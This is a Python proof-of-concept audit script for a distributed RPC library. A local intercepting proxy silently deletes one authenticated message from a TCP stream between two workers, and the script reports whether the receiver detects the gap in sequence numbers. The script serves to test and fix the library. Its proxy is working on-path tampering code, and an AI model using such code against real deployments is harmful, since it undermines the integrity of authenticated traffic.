"""PoC: an on-path attacker deletes one whole authenticated message from a TCP
stream between two workers; the receiver accepts the next one (sequence numbers
must only grow, gaps are allowed: transport/auth.py Authenticator.open).

Two real workers (spawn) on the cross-host path (DISTGRAD_SAME_HOST=0, TCP,
every byte MAC'd by default). worker1's published address leads through a proxy
(the attacker). worker0 sends three rpc_async calls that append "m1", "m2",
"m3" on worker1; the proxy parses the framing of the worker0->worker1 stream and
drops the one message whose (cleartext) envelope holds "DROP-ME-m2".

FAIL (defect) when worker1 ran m1 and m3 but not m2 and logged no
authentication failure: a message was deleted from the stream undetected.
PASS when the receiver refused what followed the gap (or the connection).
Run: PYTHONPATH=/work/wt-audit35 DISTGRAD_PURE=1 timeout 150 python audit/poc_tcp_message_deletion.py
"""
from __future__ import annotations

import multiprocessing as mp
import os
import socket
import struct
import sys
import tempfile
import threading
import time


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


LOG: list[str] = []


def _append(x):
    LOG.append(x)
    return len(LOG)


def _log():
    return list(LOG)


def worker(rank, cfg, q):
    import logging
    os.environ.update(DISTGRAD_SAME_HOST="0", DISTGRAD_SECRET="a" * 64, OMP_NUM_THREADS="1")
    logging.basicConfig(level=logging.WARNING, filename=cfg["dir"] + f"/w{rank}.log")
    import distgrad.rpc as rpc
    from distgrad.transport.socket_transport import SocketTransport
    if rank == 1:
        orig = SocketTransport.listen

        def listen(self, host):
            addr = orig(self, host)
            real = self._tcp.getsockname()[1]
            with open(cfg["dir"] + "/port.tmp", "w") as f:
                f.write(str(real))
            os.replace(cfg["dir"] + "/port.tmp", cfg["dir"] + "/port")
            return addr.replace(f":{real}", f":{cfg['proxy']}", 1)
        SocketTransport.listen = listen
    opts = rpc.TensorPipeRpcBackendOptions(init_method=f"tcp://127.0.0.1:{cfg['store']}")
    rpc.init_rpc(f"worker{rank}", rank=rank, world_size=2, rpc_backend_options=opts)
    out = None
    if rank == 0:
        futs = [rpc.rpc_async("worker1", _append, args=(f"DROP-ME-m{i}" if i == 2 else f"m{i}",),
                              timeout=6) for i in (1, 2, 3)]
        res = []
        for f in futs:
            try:
                res.append(("ok", f.wait()))
            except Exception as e:  # noqa: BLE001
                res.append(("error", type(e).__name__))
        try:
            seen = rpc.rpc_sync("worker1", _log, timeout=20)
        except Exception as e:  # noqa: BLE001 - the connection closed on the gap
            seen = f"error: {type(e).__name__}: {e}"
        out = {"calls": res, "log_on_worker1": seen}
        open(cfg["dir"] + "/done", "w").close()
    else:
        end = time.monotonic() + 60
        while not os.path.exists(cfg["dir"] + "/done") and time.monotonic() < end:
            time.sleep(0.05)
    rpc.shutdown(graceful=False)
    q.put((rank, out))


class Dropper:
    def __init__(self, port, d):
        self.sock = socket.create_server(("127.0.0.1", port))
        self.d, self.dropped, self.passed = d, 0, 0
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            while not os.path.exists(self.d + "/port"):
                time.sleep(0.01)
            s = socket.create_connection(("127.0.0.1", int(open(self.d + "/port").read())))
            threading.Thread(target=self.parse, args=(c, s), daemon=True).start()
            threading.Thread(target=self.pump, args=(s, c), daemon=True).start()

    @staticmethod
    def exact(src, n):
        buf = bytearray()
        while len(buf) < n:
            b = src.recv(n - len(buf))
            if not b:
                raise EOFError
            buf += b
        return bytes(buf)

    def parse(self, src, dst):
        try:
            dst.sendall(self.exact(src, 29))   # HELLO (then the server answers)
            dst.sendall(self.exact(src, 32))   # PROOF
            while True:
                head = self.exact(src, 4)
                (n,) = struct.unpack("!I", head)
                sizes_raw = self.exact(src, 8 * n)
                sizes = struct.unpack(f"!{n}Q", sizes_raw)
                body = b"".join(self.exact(src, k) for k in sizes)
                if b"DROP-ME-m2" in body and not self.dropped:
                    self.dropped += 1          # the attacker deletes this message
                    continue
                self.passed += 1
                dst.sendall(head + sizes_raw + body)
        except (OSError, EOFError):
            pass
        finally:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def pump(self, src, dst):
        try:
            while True:
                b = src.recv(65536)
                if not b:
                    break
                dst.sendall(b)
        except OSError:
            pass


def main():
    d = tempfile.mkdtemp(prefix="poc-del-")
    cfg = {"dir": d, "store": free_port(), "proxy": free_port()}
    dropper = Dropper(cfg["proxy"], d)
    ctx = mp.get_context("spawn")
    q = ctx.Queue()
    procs = [ctx.Process(target=worker, args=(r, cfg, q)) for r in (0, 1)]
    for p in procs:
        p.start()
    results = {}
    try:
        for _ in procs:
            r, out = q.get(timeout=110)
            results[r] = out
    except Exception as e:  # noqa: BLE001
        print("FAIL (harness): no result", e)
    finally:
        for p in procs:
            p.join(5)
            if p.is_alive():
                p.kill()
                p.join()
    out = results.get(0)
    w1log = open(d + "/w1.log").read() if os.path.exists(d + "/w1.log") else ""
    print("proxy dropped", dropper.dropped, "message(s), passed", dropper.passed)
    print("worker0 saw:", out)
    print("worker1 warnings:", w1log.strip() or "(none)")
    if out is None:
        return 2
    if dropper.dropped == 1 and out["log_on_worker1"] == ["m1", "m3"] \
            and "authentication" not in w1log and "replayed" not in w1log:
        print("FAIL: message m2 was deleted on the path; worker1 accepted m3 after the gap "
              "with no authentication error (auth.py open(): 'seq <= last' refuses only replays)")
        return 1
    print("PASS: the gap was detected")
    return 0


if __name__ == "__main__":
    sys.exit(main())
